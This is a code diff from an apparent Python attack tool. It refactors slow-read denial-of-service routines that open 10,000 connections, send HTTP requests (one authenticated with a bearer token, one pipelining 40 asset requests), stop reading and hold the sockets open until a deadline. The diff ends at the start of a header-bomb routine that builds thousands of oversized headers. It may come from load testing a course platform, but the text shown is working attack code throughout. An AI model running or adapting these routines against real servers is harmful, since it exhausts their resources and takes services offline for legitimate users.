@@ -127,30 +127,21 @@ class Attack:
     async def slow_readers(self):
         """Whoever asks for a lot has to be somebody: a member of the course."""
         request = f"GET /big HTTP/1.1\r\nHost: {self.options.big}\r\nAuthorization: Bearer {self.options.token}\r\n\r\n".encode()
-
-        async def one():
-            reader, writer = await self.connect(self.context, buffer=4096)
-            try:
-                writer.transport.pause_reading()
-                writer.write(request)
-                await asyncio.sleep(max(0, self.end - time.monotonic()))
-            finally:
-                writer.transport.abort()
-        await self.many(one, 10_000)
+        await self.many(lambda: self.read_nothing(request), 10_000)
 
     async def slow_strangers(self):
         """Whoever asks for little, and reads none of it, may be nobody: pages and files of the console, many on one connection."""
         request = f"GET /assets/bedel.css HTTP/1.1\r\nHost: {self.options.host}\r\n\r\n".encode() * 40
+        await self.many(lambda: self.read_nothing(request), 10_000)
 
-        async def one():
-            reader, writer = await self.connect(self.context, buffer=4096)
-            try:
-                writer.transport.pause_reading()
-                writer.write(request)
-                await asyncio.sleep(max(0, self.end - time.monotonic()))
-            finally:
-                writer.transport.abort()
-        await self.many(one, 10_000)
+    async def read_nothing(self, request):
+        reader, writer = await self.connect(self.context, buffer=4096)
+        try:
+            writer.transport.pause_reading()
+            writer.write(request)
+            await asyncio.sleep(max(0, self.end - time.monotonic()))
+        finally:
+            writer.transport.abort()
 
     async def header_bomb(self):
         lines = "".join(f"X-{n}: {'a' * 100}\r\n" for n in range(5000)).encode()
